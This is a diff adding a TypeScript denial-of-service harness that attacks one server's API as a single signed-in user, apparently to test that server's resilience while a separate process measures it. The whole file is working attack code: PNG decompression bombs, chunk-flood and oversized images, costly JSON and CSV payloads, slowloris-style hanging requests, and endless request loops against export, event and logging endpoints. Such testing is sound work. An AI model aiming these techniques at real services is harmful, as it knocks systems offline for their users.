@@ -1,0 +1,129 @@
+import { once } from "node:events";
+import { connect } from "node:net";
+import { constants, setPriority } from "node:os";
+import { setTimeout as pause } from "node:timers/promises";
+import { crc32, deflateSync } from "node:zlib";
+
+/*
+ * A program that attacks a server as one signed-in person until it is stopped: sheets that are expensive to read,
+ * pictures that are expensive to decode, everything that holds a place, and a flood of log entries. Its own process, so
+ * that it doesn't slow the measuring one.
+ */
+
+const { ORIGIN = "", AUTHORIZATION = "", SESSION_ID = "", ROW_ID = "" } = process.env;
+setPriority(constants.priority.PRIORITY_LOW);
+/** A person's connection: 100 Mbit/s. */
+const BYTES_PER_MS = 12_500;
+
+const headers = { authorization: AUTHORIZATION };
+const JSON_TYPE = { "content-type": "application/json" };
+
+let lineFreeAt = 0;
+
+/** Waits until the person's connection could have sent as many bytes. */
+async function transmit(bytes: number): Promise<void> {
+  const startedAt = Math.max(performance.now(), lineFreeAt);
+  lineFreeAt = startedAt + bytes / BYTES_PER_MS;
+  await pause(lineFreeAt - performance.now());
+}
+
+/** Sends a request again and again, whatever the answer. A refusal is followed by a short pause, as a script would. */
+async function repeatedly(times: number, send: () => Promise<Response>): Promise<void> {
+  await Promise.all(
+    Array.from({ length: times }, async () => {
+      for (;;) {
+        const answer = await send().catch(() => null);
+        await answer?.arrayBuffer().catch(() => null);
+        await pause(answer?.ok ? 0 : 20);
+      }
+    }),
+  );
+}
+
+async function post(path: string, body: string, type: Record<string, string> = JSON_TYPE): Promise<Response> {
+  await transmit(body.length);
+  return fetch(ORIGIN + path, { method: "POST", headers: { ...headers, ...type }, body });
+}
+
+async function photo(body: Buffer<ArrayBuffer>): Promise<Response> {
+  await transmit(body.length);
+  return fetch(`${ORIGIN}/api/scan-results/${ROW_ID}/image/front`, {
+    method: "PUT",
+    headers: { ...headers, "content-type": "image/png" },
+    body,
+  });
+}
+
+/** Blanks before a line's end, which a careless expression tries one by one. */
+const blanks = `CertNumber,GradingCompany\n${`${" ".repeat(32_000)}x,PSA\n`.repeat(500)}`;
+const wide = JSON.stringify({
+  rows: Array.from({ length: 8_000 }, (_, index) => ({
+    line: index + 2,
+    certNumber: "1",
+    gradingCompany: "\u00a0".repeat(2_000),
+  })),
+});
+const many = JSON.stringify({
+  rows: Array.from({ length: 100_000 }, (_, index) => ({
+    line: index + 2,
+    certNumber: String(index),
+    gradingCompany: "PSA",
+  })),
+});
+
+function chunk(type: string, data: Buffer): Buffer {
+  const body = Buffer.concat([Buffer.from(type), data]);
+  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  length.writeUInt32BE(data.length);
+  sum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, sum]);
+}
+
+/** A black PNG of `side` by `side` gray pixels, with these chunks before its pixels. */
+function png(side: number, ...extra: Buffer[]): Buffer<ArrayBuffer> {
+  const head = Buffer.alloc(13);
+  head.writeUInt32BE(side, 0);
+  head.writeUInt32BE(side, 4);
+  head.writeUInt8(8, 8);
+  const pixels = chunk("IDAT", deflateSync(Buffer.alloc((side + 1) * side)));
+  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
+  return Buffer.concat([signature, chunk("IHDR", head), ...extra, pixels, chunk("IEND", Buffer.alloc(0))]);
+}
+
+const bomb = chunk("zTXt", Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(Buffer.alloc(8 * 1024 * 1024))]));
+const textBombs = png(10, ...Array<Buffer>(100).fill(bomb));
+const splinter = Buffer.concat([chunk("tEXt", Buffer.alloc(0)), chunk("abCd", Buffer.alloc(0))]);
+const splinters = png(10, Buffer.alloc(400_000 * splinter.length, splinter));
+const large = png(7_700);
+
+/** Begins bodies that stop arriving. */
+async function hang(path: string, method: string, type: string): Promise<void> {
+  const { hostname, port } = new URL(ORIGIN);
+  for (;;) {
+    const socket = connect(Number(port), hostname);
+    socket.on("error", () => {});
+    socket.write(
+      `${method} ${path} HTTP/1.1\r\nhost: localhost\r\nauthorization: ${AUTHORIZATION}\r\n` +
+        `content-type: ${type}\r\ncontent-length: 9000000\r\n\r\n{`,
+    );
+    socket.resume();
+    await once(socket, "close").catch(() => null);
+  }
+}
+
+const EXPORTS = `/api/scan-sessions/${SESSION_ID}/export?format=`;
+const entry = JSON.stringify({ activityType: "navigation", description: "x", metadata: { text: "x".repeat(900) } });
+const attacks = [
+  repeatedly(4, () => post("/api/scan-plans", wide)),
+  repeatedly(2, () => post("/api/scan-plans", many)),
+  repeatedly(2, () => post("/api/scan-sessions?csvFilename=x.csv", blanks, { "content-type": "text/csv" })),
+  ...[textBombs, splinters, large].map((bytes) => repeatedly(2, () => photo(bytes))),
+  ...Array.from({ length: 10 }, () => hang("/api/scan-plans", "POST", "application/json")),
+  ...Array.from({ length: 10 }, () => hang(`/api/scan-results/${ROW_ID}/image/back`, "PUT", "image/png")),
+  repeatedly(3, () => fetch(`${ORIGIN}${EXPORTS}xlsx`, { headers })),
+  repeatedly(3, () => fetch(`${ORIGIN}${EXPORTS}csv`, { headers })),
+  repeatedly(30, () => fetch(`${ORIGIN}/api/scan-sessions/${SESSION_ID}/events?lastEventId=0`, { headers })),
+  repeatedly(4, () => post("/api/activity", entry)),
+];
+process.stdout.write("attacking\n");
+await Promise.all(attacks);
